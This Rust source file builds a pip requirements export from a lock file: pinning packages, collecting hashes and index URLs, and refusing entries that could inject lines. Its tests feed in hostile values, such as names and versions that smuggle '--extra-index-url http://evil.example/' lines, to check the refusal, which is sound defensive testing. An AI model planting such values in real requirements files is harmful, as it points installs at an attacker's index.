//! What an export pins, before it is written in one format or another: the
//! packages installed by name from an index (with their hashes when asked
//! for), the ones installed from a directory, a VCS or an archive, and the
//! indexes a reinstall needs.

use std::collections::BTreeSet;
use std::str::FromStr;

use super::index::{self, Artifact, ArtifactKind, Lookup, ResolvedIndexes, Wanted};
use crate::lock::model::{Lock, Package, Source, index_for_local_version};

/// Installer tooling that `pip freeze` leaves out unless `--all`: pinning it
/// would make a reinstall replace the installer that runs it.
const TOOLING: &[&str] = &["pip", "setuptools", "wheel", "distribute"];

pub struct Pin<'a> {
    pub package: &'a Package,
    pub version: &'a str,
    /// The files whose hashes the pin accepts: the installed wheel when the
    /// index has it, else every file of that version. Empty without hashes.
    pub artifacts: Vec<Artifact>,
}

pub struct Plan<'a> {
    pub lock: &'a Lock,
    pub pins: Vec<Pin<'a>>,
    /// Installed from a directory, a VCS or an archive (PEP 610).
    pub direct: Vec<&'a Package>,
    /// The index pins come from, when the user configured one (not pip's default).
    pub index_url: Option<String>,
    /// Further indexes pins need: the PyTorch index of a `+cu121` version.
    pub extra_index_urls: BTreeSet<String>,
}

pub struct Hashing<'a> {
    pub indexes: &'a ResolvedIndexes,
    pub options: &'a index::Options,
}

/// Why no plan can be made from a lock.
#[derive(Debug, thiserror::Error)]
pub enum PlanError {
    #[error("cannot export with hashes: {0}")]
    MissingHashes(#[from] MissingHashes),
    /// A lock is a stranger's file, and what it holds is written into files
    /// pip reads line by line: a name with a newline would add an index.
    /// `package` is the entry's place in the lock's `packages`, `field` the key.
    #[error("refusing to export: {problem}")]
    Unsafe {
        package: usize,
        field: &'static str,
        problem: String,
    },
}

/// The pins no hash was found for, each with the reason.
#[derive(Debug)]
pub struct MissingHashes {
    pub total: usize,
    /// `name==version` and why its hash is missing.
    pub missing: Vec<(String, String)>,
}

/// Reasons shown, and pins named under each, before the rest is counted.
const SHOWN: usize = 5;

impl std::error::Error for MissingHashes {}

/// One line however many pins miss: grouped by reason (an empty cache gives
/// every pin the same one), a few pins named under each.
impl std::fmt::Display for MissingHashes {
    fn fmt(&self, out: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let mut reasons: Vec<(&str, Vec<&str>)> = Vec::new();
        for (pin, reason) in &self.missing {
            match reasons.iter_mut().find(|(known, _)| known == reason) {
                Some((_, pins)) => pins.push(pin),
                None => reasons.push((reason, vec![pin])),
            }
        }
        write!(out, "no sha256 for {} of {} packages: ", self.missing.len(), self.total)?;
        let groups: Vec<String> = reasons
            .iter()
            .take(SHOWN)
            .map(|(reason, pins)| {
                let named = pins.iter().take(SHOWN).copied().collect::<Vec<_>>().join(", ");
                let more = match pins.len().saturating_sub(SHOWN) {
                    0 => String::new(),
                    more => format!(" and {more} more"),
                };
                format!("{named}{more} ({reason})")
            })
            .collect();
        write!(out, "{}", groups.join("; "))?;
        let unshown: usize = reasons.iter().skip(SHOWN).map(|(_, pins)| pins.len()).sum();
        if unshown > 0 {
            write!(out, "; {unshown} more for other reasons")?;
        }
        Ok(())
    }
}

pub fn plan<'a>(lock: &'a Lock, all: bool, hashing: Option<&Hashing>) -> Result<Plan<'a>, PlanError> {
    if let Some((package, (field, problem))) = lock
        .packages
        .iter()
        .enumerate()
        .find_map(|(index, package)| unsafe_entry(package).map(|found| (index, found)))
    {
        return Err(PlanError::Unsafe {
            package,
            field,
            problem,
        });
    }
    let mut pins = Vec::new();
    let mut direct = Vec::new();
    for package in &lock.packages {
        if !all && TOOLING.contains(&package.normalized_name().as_str()) {
            continue;
        }
        match (&package.source, &package.version) {
            (Source::Index, Some(version)) => pins.push(Pin {
                package,
                version,
                artifacts: Vec::new(),
            }),
            (Source::Index, None) => {}
            _ => direct.push(package),
        }
    }
    let mut extra_index_urls: BTreeSet<String> = pins
        .iter()
        .filter_map(|pin| index_for_local_version(pin.version))
        .collect();
    let mut index_url = None;
    if let Some(hashing) = hashing {
        let wanted: Vec<Wanted> = pins
            .iter()
            .map(|pin| Wanted {
                name: pin.package.name.clone(),
                version: pin.version.to_string(),
                wheel_tags: pin.package.wheel_tags.clone(),
                extra_indexes: index_for_local_version(pin.version).into_iter().collect(),
            })
            .collect();
        let mut missing = Vec::new();
        for (pin, lookup) in pins
            .iter_mut()
            .zip(index::look_up(&wanted, hashing.indexes, hashing.options))
        {
            match choose(lookup) {
                Ok((found_on, artifacts)) => {
                    if found_on != hashing.indexes.primary.shown() {
                        extra_index_urls.insert(found_on);
                    }
                    pin.artifacts = artifacts;
                }
                Err(reason) => missing.push((format!("{}=={}", pin.package.name, pin.version), reason)),
            }
        }
        if !missing.is_empty() {
            return Err(PlanError::MissingHashes(MissingHashes {
                total: pins.len(),
                missing,
            }));
        }
        if !hashing.indexes.primary.is_pip_default() {
            index_url = Some(hashing.indexes.primary.shown());
        }
    }
    extra_index_urls.retain(|url| Some(url) != index_url.as_ref());
    Ok(Plan {
        lock,
        pins,
        direct,
        index_url,
        extra_index_urls,
    })
}

/// What makes a package unfit to be written into a requirements file: a name
/// that is not a PEP 508 name, a version that is not PEP 440, or a direct
/// reference holding whitespace or control characters (each shown escaped),
/// with the key that holds it.
fn unsafe_entry(package: &Package) -> Option<(&'static str, String)> {
    let name = &package.name;
    let valid_name = !name.is_empty()
        && name
            .bytes()
            .all(|byte| byte.is_ascii_alphanumeric() || b"._-".contains(&byte))
        && name.bytes().next().is_some_and(|byte| byte.is_ascii_alphanumeric())
        && name
            .bytes()
            .next_back()
            .is_some_and(|byte| byte.is_ascii_alphanumeric());
    if !valid_name {
        return Some((
            "name",
            format!(
                "package name \"{}\" is not a valid distribution name (PEP 508)",
                crate::escape::one_line(name)
            ),
        ));
    }
    if let Some(version) = &package.version
        && pep440_rs::Version::from_str(version).is_err()
    {
        return Some((
            "version",
            format!(
                "{name}: version \"{}\" is not a PEP 440 version",
                crate::escape::one_line(version)
            ),
        ));
    }
    let reference = package.direct_reference().unwrap_or_default();
    let url = match &package.source {
        Source::Directory { url, .. } => url.as_str(),
        _ => "",
    };
    [reference.as_str(), url]
        .into_iter()
        .find(|text| {
            text.chars()
                .any(|c| c.is_whitespace() && c != ' ' || crate::escape::needs_escape(c))
                || text.contains(" #")
        })
        .map(|text| {
            (
                "source",
                format!(
                    "{name}: its source \"{}\" holds whitespace or control characters",
                    crate::escape::one_line(text)
                ),
            )
        })
}

/// The installed wheel when the index has it with a hash; else every hashed
/// file of the version (the wheel was built locally from the sdist, or the
/// index renamed it), as pip-compile would list them.
fn choose(lookup: Lookup) -> Result<(String, Vec<Artifact>), String> {
    match lookup {
        Lookup::Missing { reason } => Err(reason),
        Lookup::Found {
            index,
            installed_wheel,
            files,
        } => {
            if let Some(wheel) = installed_wheel {
                wheel.require_sha256().map_err(|missing| missing.to_string())?;
                return Ok((index, vec![wheel]));
            }
            let hashed: Vec<Artifact> = files.into_iter().filter(|file| file.sha256.is_some()).collect();
            if hashed.is_empty() {
                return Err(format!("{index} gives no sha256 for any file of this version"));
            }
            Ok((index, hashed))
        }
    }
}

impl Pin<'_> {
    pub fn wheels(&self) -> impl Iterator<Item = &Artifact> {
        self.artifacts.iter().filter(|file| file.kind == ArtifactKind::Wheel)
    }

    pub fn sdist(&self) -> Option<&Artifact> {
        self.artifacts.iter().find(|file| file.kind == ArtifactKind::Sdist)
    }
}

/// The header lines every format starts with: the GPU side the pins were
/// taken on, which no requirements format can express.
pub fn gpu_side(lock: &Lock) -> Vec<String> {
    let mut lines = Vec::new();
    match &lock.nvidia {
        Some(nvidia) => lines.push(format!(
            "NVIDIA driver {} (CUDA {})",
            nvidia.driver.as_deref().unwrap_or("unknown"),
            nvidia.cuda_driver.as_deref().unwrap_or("unknown")
        )),
        None => lines.push("no NVIDIA driver".to_string()),
    }
    for group in &lock.gpus {
        let mut line = format!("{} x {}", group.count, group.name);
        if let Some(cc) = &group.compute_capability {
            line.push_str(&format!(", compute capability {cc}"));
        }
        if let Some(memory) = group.memory_total_mib {
            line.push_str(&format!(", {memory} MiB"));
        }
        lines.push(line);
    }
    let toolkits: Vec<String> = lock
        .cuda
        .toolkits
        .iter()
        .filter_map(|toolkit| toolkit.version.clone())
        .collect();
    if !toolkits.is_empty() {
        lines.push(format!("CUDA toolkit {}", toolkits.join(", ")));
    }
    if let Some(torch) = lock.frameworks.get("torch") {
        let fact = |key: &str| torch.get(key).map(ToString::to_string);
        if let Some(version) = fact("version") {
            let cuda = fact("cuda").map_or_else(|| "no CUDA".to_string(), |cuda| format!("CUDA {cuda}"));
            lines.push(format!("torch {version} built with {cuda}"));
        }
    }
    lines.push(format!(
        "Python {} ({}) on {}, glibc {}",
        lock.python.version,
        lock.python.implementation,
        lock.system.architecture,
        lock.system.glibc.as_deref().unwrap_or("unknown")
    ));
    lines
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lock::model::sample_lock;

    /// Issue 20: an empty cache gave every one of 194 pins the same reason,
    /// printed 194 times on one 8,791-character line.
    #[test]
    fn many_missing_hashes_make_one_short_line_grouped_by_reason() {
        let mut missing: Vec<(String, String)> = (0..194)
            .map(|index| (format!("p{index}==1.0"), "not in the index cache".to_string()))
            .collect();
        missing.push(("odd==2.0".to_string(), "the index gives no sha256".to_string()));
        let line = MissingHashes { total: 200, missing }.to_string();
        assert_eq!(
            line,
            "no sha256 for 195 of 200 packages: p0==1.0, p1==1.0, p2==1.0, p3==1.0, p4==1.0 and 189 more \
             (not in the index cache); odd==2.0 (the index gives no sha256)"
        );
        let many_reasons: Vec<(String, String)> = (0..8)
            .map(|index| (format!("p{index}==1"), format!("reason {index}")))
            .collect();
        let line = MissingHashes {
            total: 8,
            missing: many_reasons,
        }
        .to_string();
        assert!(line.ends_with("p4==1 (reason 4); 3 more for other reasons"), "{line}");
    }

    /// Issue 20 D3: names, versions and sources from a lock reach a file pip
    /// reads line by line; one that could add a line is refused, escaped.
    #[test]
    fn a_lock_entry_that_could_add_a_line_is_refused() {
        let hostile = [
            ("x\n--extra-index-url http://evil.example/simple\n", None),
            ("x;touch", None),
            ("-e", None),
            ("fine", Some("1.0\n--index-url http://evil.example/")),
        ];
        for (name, version) in hostile {
            let mut lock = sample_lock();
            lock.packages[0].name = name.to_string();
            if let Some(version) = version {
                lock.packages[0].version = Some(version.to_string());
            }
            match plan(&lock, false, None) {
                Err(PlanError::Unsafe { problem, .. }) => {
                    assert!(!problem.contains('\n'), "the error line holds the newline: {problem}");
                    assert!(problem.contains("\\n") || problem.contains(name), "{problem}");
                }
                other => panic!("{name:?} {version:?}: {:?}", other.err()),
            }
        }
        let mut lock = sample_lock();
        lock.packages[0].source = Source::Directory {
            url: "file:///src/x\n--extra-index-url http://evil.example/".to_string(),
            editable: true,
            subdirectory: None,
        };
        assert!(matches!(plan(&lock, false, None), Err(PlanError::Unsafe { .. })));
        assert!(plan(&sample_lock(), false, None).is_ok());
    }
}
